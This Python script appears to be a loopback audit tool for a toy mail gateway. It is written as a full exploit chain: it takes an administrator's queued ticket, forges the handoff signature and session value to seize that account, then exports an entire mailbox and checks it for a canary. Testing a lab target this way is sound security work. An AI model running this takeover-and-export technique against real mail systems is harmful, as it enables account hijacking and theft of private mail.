"""Loopback audit: do queued desk transfers of a toy mail gateway give away mailboxes?

usage: concealed.py --port N [--duty NAME] [--box NAME] [--no-cleanup] [--format lines|json]

The conversation is a generator that never touches a socket: it yields Ask
objects and is sent back what the other side said.  converse() does the I/O
and can only ever reach 127.0.0.1.
"""
import argparse
import binascii
import datetime
import enum
import hashlib
import http.client
import io
import json
import socket
import string
import sys
import typing
import urllib.parse
import uuid


class Outcome(enum.IntEnum):
    EXPOSED = 0
    SAFE_OR_BROKEN = 1
    OFF_LIMITS = 3


class Stop(Exception):
    def __init__(self, outcome, why):
        super().__init__(why)
        self.outcome = outcome


def broken(why):
    return Stop(Outcome.SAFE_OR_BROKEN, why)


def off_limits(why):
    return Stop(Outcome.OFF_LIMITS, why)


# ---- what goes over the wire ------------------------------------------------

class Ask(typing.NamedTuple):
    verb: str
    where: tuple            # path segments, not yet escaped
    args: dict = {}         # query string
    fields: dict = {}       # header fields
    data: typing.Optional[bytes] = None
    wants: str = "json"     # json, text, or "code" (any status will do)

    def serialise(self, authority):
        target = "".join("/" + urllib.parse.quote(part) for part in self.where)
        if self.args:
            target += "?" + "&".join(
                "=".join(urllib.parse.quote(str(x), safe="") for x in pair)
                for pair in self.args.items())
        fields = {"Host": authority, "Connection": "close", **self.fields}
        if self.data is not None or self.verb in ("POST", "PUT"):
            fields["Content-Length"] = len(self.data or b"")
        out = io.BytesIO()
        out.write(f"{self.verb} {target} HTTP/1.1\r\n".encode("ascii"))
        for pair in fields.items():
            out.write(("%s: %s\r\n" % pair).encode("latin-1"))
        out.write(b"\r\n")
        out.write(self.data or b"")
        return out.getvalue()


CEILING = 2 ** 20


def exchange(port, ask):
    try:
        with socket.create_connection(("127.0.0.1", port), 15) as wire:
            wire.sendall(ask.serialise(f"127.0.0.1:{port}"))
            back = http.client.HTTPResponse(wire, method=ask.verb)
            back.begin()
            raw = back.read(CEILING + 1)
            back.close()
    except (http.client.HTTPException, OSError) as trouble:
        raise broken("/".join(ask.where) + " went wrong: " + repr(trouble))
    if (back.getheader("server") or "")[:10] != "posta-toy/":
        raise off_limits(f"port {port} belongs to some other server")
    if len(raw) > CEILING:
        raise broken("/".join(ask.where) + " sent too much")
    return back.status, raw.decode("utf-8", errors="replace")


def converse(port, talk):
    """Drive the generator to its end; return what it returned."""
    said = None
    while True:
        try:
            ask = talk.send(said)
        except StopIteration as end:
            return end.value
        code, text = exchange(port, ask)
        if ask.wants == "code":
            said = code
            continue
        if code >= 400:
            raise broken("HTTP %d for %s: %.60r" % (code, "/".join(ask.where), text))
        if ask.wants == "text":
            said = text
            continue
        try:
            said = json.loads(text)
        except ValueError:
            raise broken("/".join(ask.where) + " did not speak JSON")


# ---- bodies -----------------------------------------------------------------

def as_form(**pairs):
    return {"Content-Type": "application/x-www-form-urlencoded"}, \
        urllib.parse.urlencode(pairs).encode("ascii")


def as_json(**members):
    return {"Content-Type": "application/json"}, \
        json.dumps(members, sort_keys=True, separators=(",", ":")).encode("ascii")


def as_parts(**parts):
    fence = uuid.uuid4().hex
    out = b""
    for name, text in parts.items():
        out += b'--%b\r\nContent-Disposition: form-data; name="%b"\r\n\r\n%b\r\n' % (
            fence.encode(), name.encode(), text.encode())
    return {"Content-Type": "multipart/form-data; boundary=" + fence}, \
        out + b"--%b--\r\n" % fence.encode()


# ---- numbers made from a ticket ---------------------------------------------

SAFE64 = str.maketrans(string.ascii_uppercase + "+/", string.ascii_lowercase + "-_", "=\n")


def lane_of(secret):
    return "lnk-" + binascii.b2a_base64(hashlib.md5(secret).digest()).decode().translate(SAFE64)


def seal_of(secret, stamp):
    """The first 39 hexadecimal digits of HMAC-SHA-384, by RFC 2104."""
    block = hashlib.sha384().block_size
    if len(secret) > block:
        secret = hashlib.sha384(secret).digest()
    secret = secret.ljust(block, b"\0")
    inner = hashlib.sha384(bytes(b ^ 0x36 for b in secret))
    inner.update(b"transfer:" + stamp.encode())
    outer = hashlib.sha384(bytes(b ^ 0x5C for b in secret))
    outer.update(inner.digest())
    return "%039x" % (int.from_bytes(outer.digest()[:20], "big") >> 4)


def stamp_now():
    now = datetime.datetime.now(datetime.timezone.utc)
    return now.strftime("%Y%m%dT%H%M%SZ.") + uuid.uuid4().hex[-12:]


# ---- the archive ------------------------------------------------------------

def read_archive(text):
    """Subjects and bodies of the letters in an mbox, one pass over the lines."""
    subjects, bodies, in_head = [], [], False
    for line in text.split("\n"):
        if line.startswith("From "):
            subjects.append("")
            bodies.append([])
            in_head = True
        elif not bodies:
            continue
        elif not in_head:
            bodies[-1].append(line)
        elif line == "":
            in_head = False
        elif line.lower().startswith("subject: "):
            subjects[-1] = line[9:].rstrip("\r")
    return subjects, ["\n".join(lines) for lines in bodies]


BIRD = "posta canary "
BIRD_ALPHABET = frozenset(string.ascii_letters + string.digits + "-")


def bird_in(text):
    for piece in text.split(BIRD)[1:]:
        size = next((i for i, c in enumerate(piece) if c not in BIRD_ALPHABET), len(piece))
        if size:
            return BIRD + piece[:size]
    return ""


# ---- the conversation -------------------------------------------------------

def audit(duty, box, tidy):
    issued = 0

    def mark():
        nonlocal issued
        issued += 1
        return "req-%03d-%s" % (issued, uuid.uuid4().hex[:10])

    def me(*more):
        fields = {"X-Request-Id": mark(), "Accept-Language": "fr-CA",
                  "X-Posta-Client": "widget", "User-Agent": "loopback-audit/2.1"}
        for extra in more:
            fields.update(extra)
        return fields

    # 1. Is it the toy?
    health = yield Ask("GET", ("status",), {"id": mark(), "probe": "ping"})
    if health.get("toy") is not True:
        raise off_limits("that gateway is not a toy")

    # 2. Who has been queueing longest?
    queue = yield Ask("GET", ("board",), {"id": mark(), "audience": "personnel"}, me())
    queue = [q for q in queue.get("waiting", ()) if q.get("role") == duty]
    if not queue:
        raise broken(f"nobody on duty as {duty} is queueing")
    slip = (queue[0] if len(queue) == 1 else min(queue, key=lambda q: q["since"]))["ticket"]

    # 3. Step into their place.
    stamp, secret = stamp_now(), slip.encode()
    kind, data = as_form(mode="adopt", scope="campus", reason="rebalancing", durable=1,
                         session=lane_of(secret), ticket=slip)
    seal = {"X-Posta-Signature": seal_of(secret, stamp), "X-Posta-Nonce": stamp}
    place = yield Ask("POST", ("door", "handoff"), {}, me(kind, seal), data)
    token = place.get("pass")
    if not token:
        raise broken("the door stayed shut")
    badge = {"Authorization": "Badge %s" % token}

    # 4. Look around.
    shelf = yield Ask("GET", ("classic", "folders"), {"id": mark(), "view": "brief"},
                      me({"Accept": "application/vnd.posta.register+json"}, badge))
    shelf = shelf.get("folders", ())
    if not shelf:
        raise broken("an empty mailbox")
    if box not in [entry["name"] for entry in shelf]:
        box = max(shelf, key=lambda entry: entry["count"])["name"]
    listed = yield Ask("QUERY", ("messages",),
                       {"channel": "socket", "order": "alphabetical", "folder": box}, me(badge))
    listed = len(listed.get("messages", ()))

    # 5. Write.
    kind, data = as_parts(passage="Written by a loopback audit; may be deleted.")
    scrap = yield Ask("POST", ("drafts",), {},
                      me({"X-Posta-Priority": "regular"}, kind, badge), data)
    scrap = scrap["draft"]

    # 6. Carry everything away.
    kind, data = as_json(folder=box, format="mh", depth="flat", consent="issued")
    crate = yield Ask("POST", ("governance", "export"), {}, me(kind, badge), data)
    promised = crate["mails"]
    archive = yield Ask("GET", ("export", crate["job"]), {"id": mark(), "source": "repository"},
                        me({"Cookie": "mailsid=%s" % token}), wants="text")
    subjects, bodies = read_archive(archive)
    if len(bodies) < promised or len(bodies) < listed:
        raise broken(f"only {len(bodies)} letters arrived")

    # 7. Clean up and go.
    gone = {}
    if tidy:
        gone = yield Ask("PUT", ("purge", scrap), {"commit": "lazy", "acting": "owner"}, me(badge))
    kind, data = as_form(id=mark(), outcome="released")
    goodbye = yield Ask("POST", ("close",), {}, me(kind, badge), data, wants="code")

    return {
        "evidence": next(filter(None, map(bird_in, bodies)), ""),
        "owner": place.get("who"),
        "box": box,
        "letters": subjects,
        "queueing": health.get("waiting"),
        "deleted": gone.get("purged"),
        "left_properly": goodbye < 400,
    }


def port_number(text):
    value = int(text)
    if not 1 <= value <= 65535:
        raise argparse.ArgumentTypeError("between 1 and 65535, please")
    return value


if __name__ == "__main__":
    cli = argparse.ArgumentParser(description="audit the transfer queue of a toy gateway on 127.0.0.1")
    cli.add_argument("--port", type=port_number, required=True)
    cli.add_argument("--duty", default="administrator", help="whose place in the queue")
    cli.add_argument("--box", default="restricted", help="what to carry away")
    cli.add_argument("--no-cleanup", action="store_true", help="do not delete what was written")
    cli.add_argument("--format", choices=("lines", "json"), default="lines")
    given = cli.parse_args()
    try:
        found = converse(given.port, audit(given.duty, given.box, not given.no_cleanup))
    except Stop as stop:
        sys.stderr.write(f"{stop}\n")
        sys.exit(stop.outcome)
    except (AttributeError, LookupError, TypeError) as odd:
        sys.stderr.write(f"an answer of an unexpected shape ({odd!r})\n")
        sys.exit(Outcome.SAFE_OR_BROKEN)
    if given.format == "json":
        print(json.dumps(found))
    else:
        for key, value in found.items():
            print(key, value, sep=" = ")
    sys.exit(Outcome.EXPOSED if found["evidence"] else Outcome.SAFE_OR_BROKEN)
